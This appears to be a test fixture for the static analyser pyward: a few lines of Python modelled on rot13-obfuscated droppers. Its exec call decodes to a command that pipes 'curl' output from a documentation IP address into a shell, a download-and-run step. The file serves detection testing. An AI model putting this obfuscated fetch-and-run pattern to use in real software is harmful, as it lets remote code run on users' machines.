# INERT test sample for pyward's static analysis: never run it. Modelled on rot13-encoded droppers.
# Documented: GuardDog exec-base64 rule (codecs.decode sources)
# Every address is a documentation address (RFC 5737); nothing here is functional malware.
import codecs
exec(codecs.decode('vzcbeg bf; bf.flfgrz("phey -f uggc://203.0.113.9/k | fu")', 'rot13'))
